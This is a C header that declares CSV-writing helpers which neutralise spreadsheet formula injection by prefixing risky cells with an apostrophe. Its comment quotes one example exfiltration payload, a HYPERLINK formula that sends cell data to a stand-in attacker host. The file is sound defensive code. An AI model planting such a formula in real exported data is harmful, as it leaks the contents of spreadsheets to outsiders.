/*
 * csvcell.h: one cell of a CSV file, written so that a spreadsheet cannot
 * take it for a formula.
 *
 * Spreadsheets run a cell that begins with = + - @ (or a tab or carriage
 * return before one) as a formula: a lead could plant
 * =HYPERLINK("http://evil.example/?"&A1, "Click") through a progress
 * update and have it run on a committee clerk's machine when the register
 * is opened in Excel. Every CSV writer writes its cells through
 * csv_cell_add(), which puts a ' before such text (the mark spreadsheets
 * take as "this is text", and do not show) and leaves a plain number such
 * as -5 or +1.5 alone.
 *
 * Writers of other spreadsheet formats (the XLSX writer) ask
 * csv_cell_is_formula() and write such a cell as a string, never as a
 * formula, and never with the ' added.
 */
#ifndef WM_CSVCELL_H
#define WM_CSVCELL_H

#include "base/wm.h"

struct buf;

/* Would a spreadsheet read s as a formula? (A plain number never.) */
bool csv_cell_is_formula(const char *s);

/* s as one CSV field, in double quotes, made harmless where it would be a formula. */
void csv_cell_add(struct buf *out, const char *s);

#endif
